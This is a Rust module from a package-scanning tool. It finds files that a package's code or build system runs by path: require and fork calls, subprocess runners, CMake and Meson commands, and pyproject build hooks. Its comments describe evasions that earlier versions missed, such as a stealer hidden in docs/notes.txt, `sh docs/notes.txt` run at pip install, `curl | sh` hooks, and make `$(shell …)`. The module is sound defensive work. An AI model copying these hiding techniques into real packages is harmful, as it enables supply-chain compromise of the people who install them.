//! The files a package's code runs by their path: what `require(…)`,
//! `child_process.fork(…)`, `new Worker(…)`, `Module._load(…)` and the
//! process runners of Node and Python (`spawn`, `execSync`,
//! `subprocess.run`, `os.system`, …) are given, read from the string
//! literals of their arguments.
//!
//! Why: Node runs a required, forked or worker file of any extension but
//! `.json` and `.node` as JavaScript, `python FILE` and `sh FILE` run any
//! file, and every reader of a package's text reads a file named as
//! documentation or data (`docs/notes.txt`) as prose, where the veto never
//! looks. is-number whose `index.js` did `require('../docs/notes.txt')`,
//! string-padder's stealer in that file, was allowed until session 17;
//! `require(path.join(__dirname, 'docs', 'notes.txt'))`,
//! `require(__dirname + '/docs/notes.txt')`, `` require(`./docs/notes.txt`) ``
//! and `child_process.fork('./docs/notes.txt')` until session 27;
//! `require('is-number/docs/notes.txt')` (the package's own file by its
//! name) and `cluster.setupPrimary({ exec: … })` until session 40.
//! [`super::render`] keeps a path found here only if it names a member
//! the scan read as documentation or data, and then makes the package's
//! code opaque, naming both files.
//!
//! What is read: the argument list of each such call, up to its closing
//! parenthesis (512 bytes at most; a longer one is not a path), for its
//! string literals (quoted, or a template's parts around `${…}`). Each
//! literal that starts with `./` or `../` is a path from the calling
//! file's folder; all of them joined as path parts are one more
//! (`path.join(__dirname, '..', 'docs', 'notes.txt')`), unless two of them
//! were whole relative paths (alternatives, `a ? './x.js' : './y.txt'`).
//! A forked or worker file's paths are also taken from the package's root
//! (a relative path is from wherever the program runs). A process runner
//! counts only the script an interpreter is given ([`script_paths`]:
//! `'node docs/notes.txt'`, `[sys.executable, 'docs/notes.txt']`), from
//! the calling file's folder and from the root; a file handed to another
//! program is that program's data. An argument that is a bare name
//! (`require(p)`, `[sys.executable, script]`) is read as each expression
//! the same file assigns to that name (`const p = path.join(__dirname,
//! 'docs', 'notes.txt')`, allowed before session 28); a name given its
//! value any other way (from another file, a function's result, a loop)
//! is not followed, and the lines that build it are what the veto and the
//! other rules read.
//!
//! Calls in files only a package's tests or documentation build run
//! ([`super::unread::tests_or_docs`]) count for `require` (as before) but
//! not for the process runners, whose use in tests to run fixture scripts
//! is common.
//!
//! What a build script makes its build system run ([`run_by_build`]:
//! CMake's `include(…)` and `add_subdirectory(…)`, Meson's `subdir(…)`,
//! make's `include`, GYP's `'includes'`) is read the same way: an
//! included file runs as more of the script whatever its name, so
//! `include(docs/notes.txt)` in a `CMakeLists.txt` runs a document, and a
//! folder's build script runs though it lies in a test tree.
//!
//! What a CMake or Meson script's commands run ([`run_by_build_commands`]:
//! `execute_process`, `add_custom_command`, `add_custom_target`,
//! `run_command`, and the `command:` of `custom_target`, `run_target`,
//! `generator`, `configure_file` and `vcs_tag`; CMake's `install(SCRIPT …)`
//! is read as an include) is read as a process runner's arguments are: the program
//! itself when it is a path into the source tree, and the script an
//! interpreter is given. scikit-build-core and meson-python ran
//! `docs/notes.txt` so at `pip wheel` (session 44). Cargo compiles its
//! build script, library and binaries whatever their names
//! ([`compiled_sources`]).
//!
//! This module only reads text: it never resolves a path on disk, and never
//! runs anything.

use std::sync::OnceLock;

use regex::bytes::Regex;

use super::code::Code;
use super::render::{build_script, extension, file_name, Build};

/// A call whose argument names a file that runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
enum Call {
    /// Node's module loader: relative paths from the calling file.
    Require,
    /// Runs the file its argument names (`fork`, `Worker`, `run_path`):
    /// as `Require`, and from the package's root too.
    File,
    /// Runs a program: a path counts where an interpreter runs it as a
    /// script (see [`script_paths`]).
    Program,
}

/// Each path (archive path, resolved, not checked to exist) that `data`,
/// a code file at `path`, loads or runs by a literal path, in file order,
/// each once.
pub fn launched_paths(path: &str, data: &[u8]) -> Vec<String> {
    let ext = extension(&file_name(path).1).to_string();
    let calls = match ext.as_str() {
        "js" | "cjs" | "mjs" => JS_CALLS,
        "py" | "pyw" => PY_CALLS,
        _ => return Vec::new(),
    };
    let runners_count = !super::unread::tests_or_docs(path);
    let dir = path.rsplit_once('/').map_or("", |(d, _)| d);
    let root = path.split_once('/').map_or("", |(r, _)| r);
    // Node's loader under another name (`const load = require`,
    // `const r = createRequire(__filename)`), called as `require` is, and
    // `createRequire(…)(…)` called at once.
    let javascript = calls == JS_CALLS;
    let loaders = if javascript {
        loader_aliases(data)
    } else {
        Vec::new()
    };
    // Each call with its argument list, and that list split at its commas.
    let mut found_calls = Vec::new();
    if javascript && memchr::memmem::find(data, b"createRequire").is_some() {
        for m in created_and_called().find_iter(data) {
            if let Some(arg) = call_argument(&data[m.end()..]) {
                found_calls.push((Call::Require, arg, split_arguments(arg)));
            }
        }
    }
    // Each `(` preceded by a whole name (spaces between allowed): cheaper
    // than a search for the names, which are common words (`run`, `call`).
    for open in memchr::memchr_iter(b'(', data) {
        let mut end = open;
        while end > 0 && data[end - 1].is_ascii_whitespace() {
            end -= 1;
        }
        let mut start = end;
        while start > 0 && is_word_byte(data[start - 1]) {
            start -= 1;
        }
        let name = &data[start..end];
        let loader = loaders.contains(&name);
        if !calls.contains(&name) && !loader {
            continue;
        }
        let call = match name {
            b"require" => Call::Require,
            _ if loader => Call::Require,
            _ if !runners_count => continue,
            b"fork" | b"Worker" | b"_load" | b"run_path" | b"execaNode" | b"setupPrimary"
            | b"setupMaster" => Call::File,
            _ => Call::Program,
        };
        if let Some(arg) = call_argument(&data[open + 1..]) {
            found_calls.push((call, arg, split_arguments(arg)));
        }
    }
    // Paths held in names (`const p = path.join(…); require(p)`): what the
    // file assigns to each name an argument is, read as that argument.
    let names: std::collections::HashSet<&[u8]> = found_calls
        .iter()
        .flat_map(|(call, _, args)| named_arguments(*call, args).into_iter().map(|(_, n)| n))
        .collect();
    let held = if names.is_empty() {
        Default::default()
    } else {
        assignments(data, &names)
    };
    let mut out: Vec<String> = Vec::new();
    let mut seen: std::collections::HashSet<String> = Default::default();
    // Each argument list read once, whichever calls repeat it.
    let mut read: std::collections::HashSet<(Call, std::borrow::Cow<[u8]>)> = Default::default();
    let mut held_readings = 0;
    for (call, arg, args) in &found_calls {
        let (call, arg) = (*call, *arg);
        if !read.insert((call, arg.into())) {
            continue;
        }
        let mut variants = vec![std::borrow::Cow::Borrowed(arg)];
        if held_readings < MAX_HELD_READINGS {
            for v in with_held_values(call, args, &held) {
                if read.insert((call, v.clone().into())) {
                    held_readings += 1;
                    variants.push(v.into());
                }
            }
        }
        for arg in variants {
            let (from_dir, from_root) = argument_paths(&arg, call);
            let found = from_dir
                .iter()
                .filter_map(|t| super::render::resolve_from(dir, t))
                .chain(
                    from_root
                        .iter()
                        .filter_map(|t| super::render::resolve_from(root, t)),
                );
            for full in found {
                if seen.insert(full.clone()) {
                    out.push(full);
                }
            }
        }
    }
    out
}

/// Most paths read in one build script: a script with more is generated,
/// and a bound keeps a crafted one from costing more than its size.
const MAX_BUILD_PATHS: usize = 1024;

/// Each path (archive path, resolved, not checked to exist) of a file that
/// `data`, a build script at `path` ([`super::render::is_build_script`]),
/// makes its build system run by a literal path, in file order, each once:
///
/// - a file it includes, read as more of the script whatever its name:
///   CMake's `include(FILE)` (`CMakeLists.txt`, `*.cmake`; command names
///   in any case), make's `include`, `-include` and `sinclude` lines
///   (`Makefile`, `GNUmakefile`, `*.mk`, `*.mak`), GYP's
///   `'includes': [...]` (`*.gyp`, `*.gypi`);
/// - the script of a folder it builds: CMake's `add_subdirectory(DIR)`
///   (`DIR/CMakeLists.txt`), Meson's `subdir('DIR')` (`DIR/meson.build`),
///   and the CMake script a `pyproject.toml` makes scikit-build-core build
///   instead of the root's (`[tool.scikit-build] cmake.source-dir`);
/// - the CMake scripts a `pyproject.toml`'s scikit-build-core settings make
///   CMake run before or inside the project's ([`scikit_build_scripts`]).
///
/// A CMake path may be quoted or not, bare or after
/// `${CMAKE_CURRENT_SOURCE_DIR}/`, `${CMAKE_CURRENT_LIST_DIR}/`,
/// `${CMAKE_SOURCE_DIR}/` or `${PROJECT_SOURCE_DIR}/`; an `include` of a
/// name without a `/` or a `.` is a module CMake looks up as `NAME.cmake`.
/// Paths are taken from the script's folder and from the package's root.
/// A path built from any other variable is not followed; the lines that
/// build it are what the veto and the other rules read.
pub fn run_by_build(code: &Code) -> Vec<String> {
    let (path, data) = (code.path, code.data);
    let lower = file_name(path).1;
    let found = match build_script(&lower) {
        Some(Build::CMake) => cmake_paths(data),
        Some(Build::Meson) => meson_subdirs(data),
        Some(Build::Make) => make_includes(data),
        Some(Build::Gyp) => gyp_includes(data),
        None if lower == "pyproject.toml" => scikit_build_source(code),
        None if lower == "cmakepresets.json" || lower == "cmakeuserpresets.json" => {
            cmake_preset_scripts(data)
        }
        Some(Build::SCons) | None => return Vec::new(),
    };
    resolve_each(path, found)
}

/// Each path (resolved as [`run_by_build`]'s) of a file that a CMake or
/// Meson script (`code`) runs as a program, or gives an interpreter to
/// run, in a command its build system runs while the package builds:
/// CMake's `execute_process(COMMAND …)` (at configure time, which a
/// build by scikit-build-core runs), the commands of `add_custom_command`
/// and `add_custom_target`; Meson's `run_command(…)` (at setup, which
/// meson-python runs), and the `command:` of `custom_target`,
/// `run_target`, `generator`, `configure_file` and `vcs_tag`. tomli built
/// by meson-python with
/// `run_command('sh', files('docs/notes.txt'))`, or by scikit-build-core
/// with `execute_process(COMMAND sh ${CMAKE_CURRENT_SOURCE_DIR}/docs/notes.txt)`,
/// ran the document at `pip install` and was allowed (session 44).
///
/// What counts is read as [`script_paths`] reads a process runner's
/// arguments: the program itself when it is a path into the source tree
/// (after one of the source-folder variables in CMake, a `files(…)` or a
/// literal with a `/` in Meson), and the first word an interpreter is
/// given that is not an option. An interpreter is a word naming one, a
/// CMake variable naming an executable (`${Python_EXECUTABLE}`,
/// `${CMAKE_COMMAND}`, whose `-P FILE` runs a script), and in Meson any
/// program that is not a literal (a variable such as `py` from
/// `find_installation()`, whose program cannot be known here). A file
/// handed to another program (`${CMAKE_COMMAND} -E copy README.md …`) is
/// its data. Only documents and data, and code in a test tree, change
/// anything ([`super::render`]): a build that runs its own code is read
/// by the models.
pub fn run_by_build_commands(code: &Code) -> Vec<String> {
    let commands = match build_script(&file_name(code.path).1) {
        Some(Build::CMake) => cmake_commands(code.data),
        Some(Build::Meson) => meson_commands(code.data),
        _ => return Vec::new(),
    };
    let found = commands
        .iter()
        .flat_map(|c| script_paths_in(c))
        .map(|p| (false, p));
    resolve_each(code.path, found)
}

/// What a root `pyproject.toml` (`code`) makes its build run through a
/// build hook plugin that runs commands or code its text gives, each
/// described for the note on install hooks: hatch-build-scripts'
/// `commands` (a shell runs each), hatch-jupyter-builder (its
/// `build-function`, `npm_builder` by default, runs `npm install` and the
/// `package.json` script `build_cmd` names), hatch-autorun (`code`, or
/// the text of `file`, written into a `.pth` file that Python runs at
/// every start once the wheel is installed), in `[tool.hatch.build.hooks]`
/// or a target's hooks; and sphinx-theme-builder as the backend (it runs
/// npm and the `package.json` build script). Each of the first three
/// built a wheel with pip that ran `sh docs/notes.txt`, a `curl | sh`,
/// or wrote the `.pth`, and all but one were allowed (session 44): no
/// reader takes a manifest's string for code. Whether the plugin is among
/// the build's requirements is not asked: without it the build fails.
pub fn manifest_build_hooks(code: &Code) -> Vec<String> {
    let Some(doc) = super::fetched::root_pyproject(code) else {
        return Vec::new();
    };
    let text = |v: Option<&toml::Value>| v.and_then(toml::Value::as_str).map(str::to_string);
    let mut out = Vec::new();
    let hooks = super::fetched::hatch_build_tables(doc)
        .filter_map(|b| b.get("hooks"))
        .filter_map(toml::Value::as_table)
        .flatten();
    for (name, config) in hooks {
        match name.as_str() {
            "build-scripts" => {
                let scripts = config.get("scripts").and_then(toml::Value::as_array);
                let commands: Vec<String> = scripts
                    .into_iter()
                    .flatten()
                    .filter_map(|s| s.get("commands").and_then(toml::Value::as_array))
                    .flatten()
                    .filter_map(|c| c.as_str().map(|c| format!("`{c}`")))
                    .collect();
                out.push(format!(
                    "hatch-build-scripts runs {}",
                    match commands.is_empty() {
                        true => "the commands it is given".to_string(),
                        false => commands.join(", "),
                    }
                ));
            }
            "jupyter-builder" => {
                let function = text(config.get("build-function"))
                    .unwrap_or_else(|| "its build function".into());
                let command = text(config.get("build-kwargs").and_then(|k| k.get("build_cmd")))
                    .unwrap_or_else(|| "build".into());
                out.push(format!(
                    "hatch-jupyter-builder runs {function} (npm_builder: npm install, then the package.json script `{command}`)"
                ));
            }
            "autorun" => {
                let what = match (text(config.get("code")), text(config.get("file"))) {
                    (Some(c), _) => format!("`{c}`"),
                    (None, Some(f)) => format!("the text of {f}"),
                    (None, None) => "its code".into(),
                };
                out.push(format!(
                    "hatch-autorun writes {what} into a .pth file Python runs at every start"
                ));
            }
            _ => {}
        }
    }
    let backend = text(doc.get("build-system").and_then(|b| b.get("build-backend")));
    if backend.is_some_and(|b| b.trim() == "sphinx_theme_builder") {
        out.push("sphinx-theme-builder runs npm and the package.json build script".into());
    }
    if let Some(table) = doc.get("tool").and_then(|t| t.get("meson-python")) {
        out.extend(meson_python_hooks(table));
    }
    if let Some(table) = doc.get("tool").and_then(|t| t.get("scikit-build")) {
        out.extend(scikit_build_tool_args(table));
        out.extend(scikit_build_generate(table));
    }
    out
}

/// What meson-python's table in a root `pyproject.toml` (`table`,
/// `[tool.meson-python]`) makes the build run besides Meson and ninja:
/// `meson`, the program it runs as Meson (a path ending in `.py` under
/// the running Python), unless that is Meson by name (`meson`, or a
/// system path to it); a machine file given to `meson setup` by its
/// `args.setup` (`--native-file`, `--cross-file`, or a prefix argparse
/// takes for either, `--native`), whose `[binaries]` Meson runs as the
/// compiler, linker and other tools and whose `[built-in options]` give
/// the compiler flags; and `-f FILE`, `-C DIR` or `-t TOOL` among the
/// `args.compile` meson-python hands ninja (combined short options too,
/// `-vfFILE`), which make ninja run another build file's commands, or a
/// tool, instead of the build's. meson-python 0.22 with Meson 1.12 built a
/// wheel with pip from packages whose `meson` was a shell script, a `.py`
/// file or an executable `docs/notes.txt`, whose machine file (native or
/// cross, under a document's name too) set the C compiler to `sh -c …`,
/// or whose `compile` args were `-f ../docs/b.ninja` or `-C../docs`: each
/// ran its command, and the shipped gate allowed all but the `.py`
/// (session 51). A machine file is not read for what it sets: none of
/// the 403 real sdists names one, nor sets `meson` to anything but
/// numpy's vendored Meson. `args.install` is only read by meson-python
/// for `--tags` and `--skip-subprojects`, and `args.dist` only when it
/// makes an sdist, which an install does not.
fn meson_python_hooks(table: &toml::Value) -> Vec<String> {
    let mut out = Vec::new();
    if let Some(meson) = table.get("meson") {
        let shown = match meson.as_str() {
            Some(m) => m.chars().take(80).collect(),
            None => meson.to_string().chars().take(80).collect::<String>(),
        };
        if !meson.as_str().is_some_and(names_meson) {
            let how = match shown.ends_with(".py") {
                true => " under Python",
                false => "",
            };
            out.push(format!(
                "meson-python runs `{shown}`{how} as Meson, in place of the Meson it installs"
            ));
        }
    }
    let args = |key: &str| {
        table
            .get("args")
            .and_then(|a| a.get(key))
            .and_then(toml::Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(toml::Value::as_str)
            .collect::<Vec<&str>>()
    };
    let setup = args("setup");
    for (i, arg) in setup.iter().enumerate() {
        let (option, value) = match arg.split_once('=') {
            Some((o, v)) => (o, Some(v)),
            None => (*arg, setup.get(i + 1).copied()),
        };
        let machine = ["--native-file", "--cross-file"]
            .into_iter()
            .find(|full| option.len() > 2 && full.starts_with(option));
        if let Some(full) = machine {
            out.push(format!(
                "meson-python gives `meson setup` the machine file `{}` (`{full}`), whose `[binaries]` Meson runs as the compiler, linker and other tools",
                value.unwrap_or("").chars().take(80).collect::<String>()
            ));
        }
    }
    for (arg, what) in build_tool_runs(&args("compile")) {
        out.push(format!(
            "meson-python runs ninja with `{arg}`, which makes it run {what}"
        ));
    }
    out
}

/// What scikit-build-core's `build.tool-args` in a root `pyproject.toml`
/// (`[tool.scikit-build]`, `table`, and each of its `overrides`) make the
/// build tool CMake drives (ninja, or make as its fallback) run besides
/// the build ([`build_tool_runs`]): scikit-build-core 1.1.2 built a wheel
/// with pip from packages whose tool args were `--eval=$(shell …)`, or
/// `-f ../docs/b.mk` or `-C ../docs` beside `build-dir = "build"`, and
/// make ran the command each time; the shipped gate allowed all three
/// (session 51).
fn scikit_build_tool_args(table: &toml::Value) -> Vec<String> {
    let overrides = table
        .get("overrides")
        .and_then(toml::Value::as_array)
        .into_iter()
        .flatten();
    let args: Vec<&str> = std::iter::once(table)
        .chain(overrides)
        .filter_map(|t| t.get("build")?.get("tool-args")?.as_array())
        .flatten()
        .filter_map(toml::Value::as_str)
        .collect();
    build_tool_runs(&args)
        .into_iter()
        .map(|(arg, what)| {
            format!("scikit-build-core runs the build tool (ninja or make) with `{arg}`, which makes it run {what}")
        })
        .collect()
}

/// What scikit-build-core's `generate` entries (`[[tool.scikit-build.
/// generate]]`, and each override's) write when it builds: each entry
/// writes its `template` (or the text of `template-path`) to `path`, in
/// the wheel (`location = "install"`, the default), the build folder or
/// the unpacked package's own (`"source"`, over a file of the same name).
/// An entry counts when its path leaves those folders (absolute, or with
/// a `..`): scikit-build-core 1.1.2 wrote `/tmp/…` and
/// `../../…/tmp/…` at `pip install`, and the shipped gate allowed both
/// (session 51). It counts too when it writes a file that runs (Python,
/// a `.pth`, JavaScript, a shell script, a build script, a library),
/// unless it is a Python module in the wheel or the package whose inline
/// template only assigns literals (`version = "${version}"`, what real
/// packages generate): a module made from `import os\nopen(…)` that the
/// package imported ran it, and both configs allowed it. A template's text
/// lies in the manifest, where no rule reads it as code.
fn scikit_build_generate(table: &toml::Value) -> Vec<String> {
    let overrides = table
        .get("overrides")
        .and_then(toml::Value::as_array)
        .into_iter()
        .flatten();
    let entries = std::iter::once(table)
        .chain(overrides)
        .filter_map(|t| t.get("generate")?.as_array())
        .flatten();
    let mut out = Vec::new();
    for entry in entries {
        let text = |k: &str| entry.get(k).and_then(toml::Value::as_str);
        let path = text("path").unwrap_or("");
        let location = text("location").unwrap_or("install");
        let shown = path.chars().take(80).collect::<String>();
        let outside = path.starts_with(['/', '\\'])
            || path.as_bytes().get(1) == Some(&b':')
            || path.split(['/', '\\']).any(|c| c == "..");
        if outside || path.is_empty() {
            out.push(format!(
                "scikit-build-core's `generate` writes `{shown}` when it builds (`location = \"{location}\"`), outside the package and its build"
            ));
            continue;
        }
        let lower = path.to_ascii_lowercase();
        let name = lower.rsplit('/').next().unwrap_or(&lower);
        let runs = super::unread::is_script(name)
            || build_script(name).is_some()
            || matches!(
                extension(name),
                "sh" | "bash" | "zsh" | "ps1" | "bat" | "cmd" | "so" | "pyd" | "dll" | "dylib"
            );
        let plain_module = location != "build"
            && name.ends_with(".py")
            && text("template").is_some_and(assigns_literals_only);
        if runs && !plain_module {
            out.push(format!(
                "scikit-build-core's `generate` writes `{shown}` from a template in the manifest (`location = \"{location}\"`), a file that runs, whose text no rule reads as code"
            ));
        }
    }
    out
}

/// Whether a Python template holds only comments, blank lines and
/// assignments of literals (strings without escapes, numbers, `None`,
/// `True`, `False`, tuples of them) to plain names, with scikit-build-core's
/// `${…}` placeholders inside strings: `__version__ = version = "${version}"`,
/// `version_tuple = (1, 2)`.
fn assigns_literals_only(template: &str) -> bool {
    static LINE: OnceLock<regex::Regex> = OnceLock::new();
    let line = LINE.get_or_init(|| {
        regex::Regex::new(
            r#"^\s*(?:#.*|(?:[A-Za-z_]\w*\s*(?::\s*[\w\[\], .]+)?=\s*)+(?:"[^"\\\n]*"|'[^'\\\n]*'|[-+]?[\d.]+|None|True|False|\((?:\s*(?:"[^"\\\n]*"|'[^'\\\n]*'|[-+]?[\d.]+)\s*,?)*\))\s*(?:#.*)?)?$"#,
        )
        .expect("the literal assignment pattern compiles")
    });
    template.lines().all(|l| line.is_match(l))
}

/// The arguments among `args`, handed to ninja or make (or MSBuild), that
/// make the tool run something besides the build's own rules, each as
/// written (with its value) and what it runs: a build file (`-f FILE`,
/// make's `--file` and `--makefile`), the build of another folder (`-C
/// DIR`, `--directory`), a tool of ninja's instead of the build (`-t
/// TOOL`), make code (`--eval=TEXT`, `-E TEXT`, whose `$(shell …)` runs a
/// command), a variable assignment (`SHELL=…`, `CMAKE_COMMAND=…`: it
/// overrides what the generated rules run; only `VERBOSE=N` is let be),
/// and MSBuild's properties, loggers and response files (`-p:…`,
/// `-logger:…`, `@FILE`). Short options are read as both tools' getopt
/// strings allow (`-vfFILE`, `-C../docs`); a long one by any prefix make
/// takes for it (`--dir=…`). What the words mean is not asked of the
/// build's generator: an option one tool lacks makes the build fail.
fn build_tool_runs(args: &[&str]) -> Vec<(String, &'static str)> {
    const FILE: &str = "the commands of that build file";
    const DIR: &str = "the build file in that folder";
    const TOOL: &str = "that tool instead of the build";
    const EVAL: &str = "that text as make code, whose `$(shell …)` runs a command";
    const VARIABLE: &str =
        "the rules with that variable overridden (`SHELL`, `CMAKE_COMMAND` name what they run)";
    const MSBUILD: &str = "a command or library an MSBuild setting names";
    let shown = |s: &str| s.chars().take(80).collect::<String>();
    let mut out = Vec::new();
    for (i, arg) in args.iter().enumerate() {
        let next = args.get(i + 1).copied().unwrap_or("");
        if let Some(long) = arg.strip_prefix("--") {
            let (name, value) = long.split_once('=').unwrap_or((long, next));
            let what = [
                ("file", FILE),
                ("makefile", FILE),
                ("directory", DIR),
                ("eval", EVAL),
            ]
            .into_iter()
            .find(|(full, _)| !name.is_empty() && full.starts_with(name));
            if let Some((_, what)) = what {
                out.push((format!("--{name} {}", shown(value)), what));
            }
        } else if let Some(letters) = arg.strip_prefix('-').or_else(|| arg.strip_prefix('/')) {
            let lower = letters.to_ascii_lowercase();
            let msbuild = [
                "p:",
                "property:",
                "l:",
                "logger:",
                "dl:",
                "distributedlogger:",
            ];
            if msbuild.iter().any(|m| lower.starts_with(m)) {
                out.push((shown(arg), MSBUILD));
                continue;
            }
            // Any other MSBuild switch (`/m`, `-target:Build`, `/v:m`).
            if arg.starts_with('/') || letters.contains(':') {
                continue;
            }
            // Letters without a value run together; one with a value takes
            // the rest of the word or, when that is empty, the next
            // argument. `k`, `d` and `w` take one in ninja and none in
            // make: the letters after them are read as options too, but
            // for ninja's own modes (`-dstats`, `-wdupbuild=err`).
            for (at, letter) in letters.char_indices() {
                let what = match letter {
                    'f' => FILE,
                    'C' => DIR,
                    't' => TOOL,
                    'E' => EVAL,
                    'o' | 'W' | 'O' => break,
                    // ninja's debug modes and warning flags.
                    'd' | 'w'
                        if [
                            "stats",
                            "explain",
                            "keepdepfile",
                            "keeprsp",
                            "list",
                            "dupbuild",
                            "phonycycle",
                        ]
                        .iter()
                        .any(|m| letters[at + 1..].starts_with(m)) =>
                    {
                        break
                    }
                    _ => continue,
                };
                let rest = &letters[at + letter.len_utf8()..];
                let value = if rest.is_empty() { next } else { rest };
                out.push((format!("-{letter} {}", shown(value)), what));
                break;
            }
        } else if let Some(at) = arg.strip_prefix('@') {
            out.push((format!("@{}", shown(at)), MSBUILD));
        } else if let Some((name, value)) = arg.split_once('=') {
            // make takes `v=x`, `v:=x`, `v::=x`, `v:::=x`, `v+=x`, `v?=x`
            // and `v!=x` (a shell command's output) on its command line.
            let name = name.trim_end_matches([':', '+', '?', '!']);
            let variable = !name.is_empty()
                && name
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'));
            let verbose = name == "VERBOSE" && value.bytes().all(|b| b.is_ascii_digit());
            if variable && !verbose {
                out.push((shown(arg), VARIABLE));
            }
        }
    }
    out
}

/// Whether `program` is Meson by name: `meson` (or `meson.exe`), bare or
/// as an absolute path, which no unpacked package can ship. A relative
/// path (`tools/meson`, `meson.py`) names a file of the package.
fn names_meson(program: &str) -> bool {
    let program = program.trim();
    let absolute = program.starts_with('/')
        || program
            .as_bytes()
            .get(1..3)
            .is_some_and(|b| b[0] == b':' && matches!(b[1], b'\\' | b'/'));
    let base = program.rsplit(['/', '\\']).next().unwrap_or(program);
    matches!(base, "meson" | "meson.exe") && (absolute || base == program)
}

/// At most this many bytes of one build command's arguments are read: a
/// longer list is cut there (a crafted script of unclosed calls would
/// otherwise cost its size at each).
const BUILD_COMMAND_BYTES: usize = 8 << 10;

/// The commands of CMake's `execute_process`, `add_custom_command` and
/// `add_custom_target` calls in `data`, each as tokens: its words after
/// `COMMAND` (or, for `add_custom_target`, after the target's name and
/// `ALL`) up to the next keyword.
fn cmake_commands(data: &[u8]) -> Vec<Vec<Token>> {
    const KEYWORDS: &[&str] = &[
        "COMMAND",
        "WORKING_DIRECTORY",
        "OUTPUT",
        "DEPENDS",
        "BYPRODUCTS",
        "COMMENT",
        "VERBATIM",
        "USES_TERMINAL",
        "RESULT_VARIABLE",
        "RESULTS_VARIABLE",
        "OUTPUT_VARIABLE",
        "ERROR_VARIABLE",
        "INPUT_FILE",
        "OUTPUT_FILE",
        "ERROR_FILE",
        "TIMEOUT",
        "OUTPUT_QUIET",
        "ERROR_QUIET",
        "SOURCES",
        "MAIN_DEPENDENCY",
        "IMPLICIT_DEPENDS",
        "DEPFILE",
        "JOB_POOL",
        "JOB_SERVER_AWARE",
        "COMMAND_EXPAND_LISTS",
        "APPEND",
        "PRE_BUILD",
        "PRE_LINK",
        "POST_BUILD",
        "TARGET",
        "COMMAND_ECHO",
        "ENCODING",
        "ECHO_OUTPUT_VARIABLE",
        "ECHO_ERROR_VARIABLE",
        "COMMAND_ERROR_IS_FATAL",
        "OUTPUT_STRIP_TRAILING_WHITESPACE",
        "ERROR_STRIP_TRAILING_WHITESPACE",
        "CODEGEN",
        "DEPENDS_EXPLICIT_ONLY",
    ];
    let mut out = Vec::new();
    for (name, implicit) in [
        (&b"execute_process"[..], false),
        (b"add_custom_command", false),
        (b"add_custom_target", true),
    ] {
        for at in command_calls(data, name) {
            let args = cmake_arguments(&data[at..]);
            let mut words = args.iter().map(String::as_str).peekable();
            let mut command: Option<Vec<Token>> = None;
            if implicit {
                words.next();
                if words.peek() == Some(&"ALL") {
                    words.next();
                }
                command = Some(Vec::new());
            }
            for w in words {
                if KEYWORDS.contains(&w) {
                    out.extend(command.take().filter(|c| !c.is_empty()));
                    if w == "COMMAND" {
                        command = Some(Vec::new());
                    }
                    continue;
                }
                if let Some(c) = &mut command {
                    // A quoted argument is one word to CMake; its words are
                    // read as a command line, the more cautious reading.
                    c.extend(w.split_ascii_whitespace().map(cmake_token));
                }
            }
            out.extend(command.filter(|c| !c.is_empty()));
        }
    }
    out
}

/// A word of a CMake command as a token: an interpreter, or a word with
/// a source-folder variable read as the path it starts (`./` before it,
/// so that a program given so counts as one).
fn cmake_token(word: &str) -> Token {
    let executable = word.starts_with("${")
        && word.ends_with('}')
        && (word.contains("EXECUTABLE") || word == "${CMAKE_COMMAND}");
    if executable || interpreter(word) {
        return Token::Interpreter;
    }
    for var in [
        "${CMAKE_CURRENT_SOURCE_DIR}/",
        "${CMAKE_CURRENT_LIST_DIR}/",
        "${CMAKE_SOURCE_DIR}/",
        "${PROJECT_SOURCE_DIR}/",
    ] {
        if let Some(rest) = word.strip_prefix(var) {
            return Token::Word(format!("./{rest}"));
        }
    }
    Token::Word(word.to_string())
}

/// The arguments of a CMake command whose list starts at `rest` (after
/// its `(`), up to its closing `)` or [`BUILD_COMMAND_BYTES`]: quoted
/// ones without their quotes, comments left out.
fn cmake_arguments(rest: &[u8]) -> Vec<String> {
    let rest = &rest[..rest.len().min(BUILD_COMMAND_BYTES)];
    let mut out = Vec::new();
    let mut depth = 0usize;
    let mut i = 0;
    while i < rest.len() {
        match rest[i] {
            b if b.is_ascii_whitespace() => i += 1,
            b'#' => i += memchr::memchr(b'\n', &rest[i..]).unwrap_or(rest.len() - i),
            b'(' => {
                depth += 1;
                i += 1;
            }
            b')' if depth == 0 => break,
            b')' => {
                depth -= 1;
                i += 1;
            }
            b'"' => {
                let start = i + 1;
                i = start;
                while i < rest.len() && rest[i] != b'"' {
                    i += if rest[i] == b'\\' { 2 } else { 1 };
                }
                out.push(String::from_utf8_lossy(&rest[start..i.min(rest.len())]).into_owned());
                i += 1;
            }
            _ => {
                let start = i;
                while i < rest.len()
                    && !rest[i].is_ascii_whitespace()
                    && !b"()\"#".contains(&rest[i])
                {
                    i += 1;
                }
                out.push(String::from_utf8_lossy(&rest[start..i]).into_owned());
            }
        }
    }
    out
}

/// The commands of Meson's `run_command(…)` (its arguments before the
/// first keyword) and the `command: […]` of `custom_target`, `run_target`,
/// `generator`, `configure_file` and `vcs_tag` calls in `data`, each as
/// tokens.
fn meson_commands(data: &[u8]) -> Vec<Vec<Token>> {
    let mut out = Vec::new();
    for at in command_calls(data, b"run_command") {
        let args = meson_code(meson_list(&data[at..]));
        let positional = split_arguments(&args)
            .into_iter()
            .take_while(|a| !meson_keyword(a));
        out.push(meson_command(positional));
    }
    for name in [
        &b"custom_target"[..],
        b"run_target",
        b"generator",
        b"configure_file",
        b"vcs_tag",
    ] {
        for at in command_calls(data, name) {
            let args = meson_list(&data[at..]);
            // `command: [prog, …]`: its array, read from its `[` to its `]`
            // (the commas inside it are not the call's).
            let mut from = 0;
            while let Some(k) = memchr::memmem::find(&args[from..], b"command") {
                let key = from + k;
                from = key + b"command".len();
                let whole = key == 0 || !is_word_byte(args[key - 1]);
                let rest = args[from..].trim_ascii_start();
                let Some(rest) = rest.strip_prefix(b":").map(<[u8]>::trim_ascii_start) else {
                    continue;
                };
                if let (true, Some(inner)) = (whole, rest.strip_prefix(b"[")) {
                    let items = meson_code(meson_list(inner));
                    out.push(meson_command(split_arguments(&items)));
                }
            }
        }
    }
    out
}

/// Whether a Meson argument is a keyword argument (`check: false`).
fn meson_keyword(arg: &[u8]) -> bool {
    let name = arg
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    name > 0 && arg[name..].trim_ascii_start().starts_with(b":")
}

